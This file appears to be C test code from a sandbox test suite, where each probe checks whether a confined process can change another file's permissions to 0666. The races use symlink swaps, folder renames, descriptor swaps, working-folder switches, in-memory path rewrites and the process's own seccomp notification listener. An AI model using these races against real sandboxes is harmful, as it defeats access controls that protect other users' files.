/* One thread changes the mode of what another makes to be another file. */
#include "probe.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>

enum { turns = 25000 };

static volatile bool over;
static volatile char *shared_name;
static int moving, own, foreign;

static bool changed(const char *name)
{
	struct stat st;
	return !stat(name, &st) && (st.st_mode & 0777) == 0666;
}

/* Runs `beside` on a thread while `change` is called, until the secret has changed. */
static bool wins(const char *secret, void *(*beside)(void *), void (*change)(void))
{
	char name[4096]; /* what in() returns is used again */
	pthread_t thread;
	snprintf(name, sizeof name, "%s", secret);
	over = false;
	if (pthread_create(&thread, NULL, beside, NULL))
		return false;
	for (int i = 0; i < turns && !changed(name); i++)
		change();
	over = true;
	pthread_join(thread, NULL);
	return changed(name);
}

static void *swap_link(void *unused)
{
	for (int i = 0; !over; i++) {
		unlink("./new");
		symlink(i % 2 ? "own" : arena, "./new");
		rename("./new", "./way");
	}
	return NULL;
}
static void change_by_link(void) { chmod("./way/secret", 0666); }
PROBE(metadata, race_by_link, "system_calls", "named")
{
	mkdir("./own", 0700);
	close(open("./own/secret", O_CREAT | O_WRONLY, 0600));
	return wins(in("secret"), swap_link, change_by_link);
}

static void *swap_folders(void *unused)
{
	while (!over) {
		rename("./way", "./other");
		rename("./out", "./way");
		rename("./way", "./out");
		rename("./other", "./way");
	}
	return NULL;
}
static void change_by_folder(void)
{
	chmod("./way/secret", 0666);
	chmod("way/../way/secret", 0666);
}
PROBE(metadata, race_by_renamed_folder, "system_calls", "named")
{
	mkdir("./way", 0700);
	close(open("./way/secret", O_CREAT | O_WRONLY, 0600));
	symlink(arena, "./out");
	return wins(in("secret"), swap_folders, change_by_folder);
}

static void *swap_descriptor(void *unused)
{
	while (!over) {
		dup2(own, moving);
		dup2(foreign, moving);
	}
	return NULL;
}
static void change_by_descriptor(void)
{
	fchmod(moving, 0666);
	chmod(self_fd(moving), 0666);
}
PROBE(metadata, race_by_descriptor, "metadata", "")
{
	own = open("./mine", O_CREAT | O_RDWR, 0600), foreign = open(in("readable"), O_RDONLY), moving = dup(own);
	return own >= 0 && foreign >= 0 && wins(in("readable"), swap_descriptor, change_by_descriptor);
}

static void *swap_working_folder(void *unused)
{
	while (!over) {
		fchdir(own);
		fchdir(foreign);
	}
	return NULL;
}
static void change_in_working_folder(void) { chmod("secret", 0666); }
PROBE(metadata, race_by_working_folder, "system_calls", "named")
{
	close(open("./secret", O_CREAT | O_WRONLY, 0600));
	own = open(".", O_PATH | O_DIRECTORY), foreign = open(arena, O_PATH | O_DIRECTORY);
	return own >= 0 && foreign >= 0 && wins(in("secret"), swap_working_folder, change_in_working_folder);
}

static void *swap_name(void *unused)
{
	while (!over) {
		shared_name[0] = '.';
		shared_name[0] = '/';
	}
	return NULL;
}
static void change_by_name(void) { chmod((char *)shared_name, 0666); }
PROBE(metadata, race_by_name_in_memory, "system_calls", "named")
{
	char name[4096];
	snprintf(name, sizeof name, "%s", in("secret"));
	shared_name = name; /* with a dot first, one in the working folder, which is not there */
	return wins(in("secret"), swap_name, change_by_name);
}

/* A listener of its own, which lets each call go on, asked before any other. */
static int listener;
static void *let_all_go_on(void *unused)
{
	struct seccomp_notif call;
	struct seccomp_notif_resp answer;
	for (;;) {
		memset(&call, 0, sizeof call), memset(&answer, 0, sizeof answer);
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call))
			return NULL;
		answer.id = call.id, answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
	}
}
PROBE(metadata, change_mode_by_own_listener, "system_calls", "named")
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_fchmodat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {sizeof code / sizeof *code, code};
	pthread_t thread;
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	if (listener < 0 || pthread_create(&thread, NULL, let_all_go_on, NULL))
		return false;
	return !syscall(SYS_fchmodat, AT_FDCWD, in("secret"), 0666) && changed(in("secret"));
}
